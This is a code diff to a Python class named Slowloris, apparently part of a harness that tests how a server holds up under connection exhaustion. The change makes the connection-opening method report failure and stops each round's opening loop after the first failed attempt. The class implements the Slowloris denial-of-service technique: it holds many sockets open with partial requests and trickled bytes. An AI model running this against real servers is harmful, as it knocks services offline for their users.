@@ -78,17 +78,18 @@ class Slowloris:
         self._stop.set()
         self._thread.join(timeout=10)
 
-    def _open(self, selector, slot: int, now: float) -> None:
+    def _open(self, selector, slot: int, now: float) -> bool:
         try:
             conn = socket.create_connection(self.address, timeout=1)
             conn.sendall(self.HEAD)
         except OSError:
-            return  # the listen queue is full: the slot is tried again on the next round
+            return False  # the listen queue is full: tried again on the next round
         conn.setblocking(False)
         self.opened += 1
         # spread the trickled bytes over the interval rather than sending them all at once
         selector.register(conn, selectors.EVENT_READ, {"slot": slot, "opened": now,
                                                        "next": now + self.trickle * (slot + 1) / self.count})
+        return True
 
     def _run(self) -> None:
         selector = selectors.DefaultSelector()
@@ -97,7 +98,8 @@ class Slowloris:
             while not self._stop.is_set():
                 now = time.monotonic()
                 for slot in sorted(free):
-                    self._open(selector, slot, now)
+                    if not self._open(selector, slot, now):
+                        break  # one wait per round at most, so the trickle and the stop stay on time
                 free = set(range(self.count)) - {key.data["slot"] for key in selector.get_map().values()}
                 for key, _ in selector.select(timeout=0.05):  # the server answered or closed
                     self._drop(selector, key, free, closed_by_server=True)
